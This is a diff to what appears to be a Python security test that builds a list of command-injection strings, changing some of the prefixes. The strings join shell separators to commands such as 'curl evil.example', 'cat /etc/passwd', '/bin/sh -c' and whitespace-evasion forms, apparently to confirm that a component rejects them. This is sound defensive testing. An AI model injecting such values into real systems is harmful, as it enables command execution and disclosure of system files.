@@ -149,7 +149,7 @@ def test_what_a_capsule_knows_is_told(shared: Asking) -> None:
 
 INJECTIONS = [
     f"{before}{joined}{command}{after}"
-    for before, after in (("", ""), ("checkout", ""), ("'", "'"), ('"', '"'), ("checkout", "#"), ("$", ""))
+    for before, after in (("", ""), ("x", ""), ("'", "'"), ('"', '"'), ("x", "#"), ("$", ""))
     for joined in (";", "|", "||", "&", "&&", "\n", "\r\n", "`", "$(", "%0a", "\x00", ">", "<(")
     for command in ("id", "touch {canary}", "/bin/sh -c 'touch {canary}'", "curl evil.example",
                     "sleep 30", "cat /etc/passwd", "touch${{IFS}}{canary}", "{{touch,{canary}}}")
